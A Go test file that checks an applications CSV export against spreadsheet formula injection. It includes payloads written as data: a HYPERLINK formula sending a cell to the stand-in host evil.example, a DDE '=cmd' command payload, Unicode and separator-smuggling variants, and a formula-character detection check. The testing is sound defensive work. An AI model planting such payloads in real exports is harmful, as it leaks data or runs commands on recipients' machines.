package api_test

import (
	"encoding/csv"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"

	"kring/circles"
	"kring/internal/wall"
)

// table reads an exported table as a reader of CSV does.
func (a answer) table(separator rune) [][]string {
	a.t.Helper()
	body, marked := strings.CutPrefix(a.Body.String(), "\ufeff")
	if !marked {
		a.t.Error("no byte order mark: Excel reads it as Windows-1252")
	}
	if strings.Count(body, "\n") != strings.Count(body, "\r\n") {
		a.t.Error("a line does not end in CRLF (RFC 4180)")
	}
	r := csv.NewReader(strings.NewReader(body))
	r.Comma = separator
	rows, err := r.ReadAll()
	must(a.t, err)
	return rows
}

// attacks are names that people gave themselves, beside the cell that they become.
var attacks = [][2]string{
	{`=HYPERLINK("http://evil.example?x="&A1,"click")`, `'=HYPERLINK("http://evil.example?x="&A1,"click")`},
	{`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
	{`+1+1`, `'+1+1`}, {`-2+3`, `'-2+3`}, {`@SUM(1)`, `'@SUM(1)`},
	{`＝1+1`, `'＝1+1`}, {`＋1`, `'＋1`}, {`－1`, `'－1`}, {`＠x`, `'＠x`}, {`﹦1`, `'﹦1`},
	{`x;=1+1`, `x;'=1+1`}, {`x,@y`, `x,'@y`}, {`x"=1`, `x"'=1`}, {`x|-1`, `x|'-1`}, {`x; =1`, `x; '=1`},
	{`"=1"`, `"'=1"`}, {`''=1`, `''=1`},
	{`Zoë Ångström-Łęk`, `Zoë Ångström-Łęk`}, {`An "Anneke" Maes; Gent, BE`, `An "Anneke" Maes; Gent, BE`}, {`Jean-Pierre`, `Jean-Pierre`},
}

func TestTheTableOfApplicantsIsHarmless(t *testing.T) {
	worlds(t, func(t *testing.T, w *world) {
		c := newCast(w)
		for i, attack := range attacks {
			_, err := c.rooms.Apply(t.Context(), c.programme.ID, circles.ApplicationDraft{
				Name: attack[0], Email: fmt.Sprintf("a%02d@example.org", i), LetterLanguage: "nl", Speaks: []string{"nl"}, Zone: "Europe/Brussels",
				Team: attack[0], Availability: []wall.Hours{{Weekday: "tue", From: "08:00", Until: "18:00"}},
			})
			must(t, err)
		}
		path := "/api/v1/programmes/" + c.programme.ID + "/applications/export"
		token := w.token(c.actors[facilitator].PersonID)
		for _, form := range []struct {
			query, lang, heading string
			separator            rune
		}{
			{"", "en", "Name", ','}, {"?lang=nl", "", "Naam", ','}, {"?separator=semicolon", "nl", "Naam", ';'}, {"?separator=comma&state=unconfirmed", "en", "Name", ','},
		} {
			got := w.send(request{method: "GET", path: path + form.query, token: token, headers: map[string]string{"Accept-Language": form.lang}}).status(http.StatusOK)
			h := got.Header()
			if h.Get("Content-Type") != "text/csv; charset=utf-8; header=present" || !strings.HasPrefix(h.Get("Content-Disposition"), `attachment; filename="kring-applications-`) ||
				!strings.HasSuffix(h.Get("Content-Disposition"), `.csv"`) || h.Get("Cache-Control") != "no-store" {
				t.Errorf("headers %v", h)
			}
			rows := got.table(form.separator)
			if rows[0][0] != form.heading {
				t.Errorf("the first row is %q", rows[0])
			}
			found := map[string]string{}
			for _, row := range rows[1:] {
				found[row[1]] = row[0]
				for _, cell := range row {
					if cell != "" && strings.ContainsRune("=+-@\t\r\n＝＋－＠", []rune(cell)[0]) {
						t.Errorf("a cell begins like a formula: %q", cell)
					}
				}
			}
			for i, attack := range attacks {
				if got := found[fmt.Sprintf("a%02d@example.org", i)]; got != attack[1] {
					t.Errorf("%q became %q, want %q", attack[0], got, attack[1])
				}
			}
		}
	})
}

// However a spreadsheet cuts the file, by commas, semicolons or tabs, with quotes or without: no cell is a formula.
func TestNoReaderFindsAFormula(t *testing.T) {
	w := oneWorld(t)
	c := newCast(w)
	for i, attack := range attacks {
		_, err := c.rooms.Apply(t.Context(), c.programme.ID, circles.ApplicationDraft{
			Name: attack[0], Email: fmt.Sprintf("a%02d@example.org", i), LetterLanguage: "nl", Speaks: []string{"nl"}, Zone: "Europe/Brussels",
			Location: attack[0], Availability: mornings,
		})
		must(t, err)
	}
	path := "/api/v1/programmes/" + c.programme.ID + "/applications/export"
	for _, query := range []string{"", "?separator=semicolon"} {
		body := w.send(request{method: "GET", path: path + query, token: w.token(w.owner.PersonID)}).status(http.StatusOK).Body.String()
		for _, cut := range []string{",", ";", "\t", "|"} {
			for line := range strings.Lines(body) {
				for cell := range strings.SplitSeq(line, cut) {
					cell = strings.TrimLeft(cell, ` "`)
					if cell != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(cell)[0]) {
						t.Errorf("cut by %q, %q is a formula", cut, cell)
					}
				}
			}
		}
	}
}

func TestATableIsWholeHoweverLong(t *testing.T) {
	worlds(t, func(t *testing.T, w *world) {
		p := w.programme(w.token(w.owner.PersonID), map[string]any{"signup_open": true})
		var want []string
		for i := range 205 { // two pages
			email := fmt.Sprintf("a%03d@example.org", i)
			_, err := w.rooms.Apply(t.Context(), p.text("id"), circles.ApplicationDraft{
				Name: "Ann Maes", Email: email, LetterLanguage: "nl", Speaks: []string{"nl"}, Zone: "Europe/Brussels", Availability: mornings,
			})
			must(t, err)
			want = append(want, email)
		}
		rows := w.send(request{
			method: "GET", path: "/api/v1/programmes/" + p.text("id") + "/applications/export", token: w.token(w.owner.PersonID),
		}).status(http.StatusOK).table(',')
		var got []string
		for _, row := range rows[1:] {
			got = append(got, row[1])
		}
		if !slices.Equal(got, want) {
			t.Errorf("%d rows: %v", len(got), got)
		}
	})
}
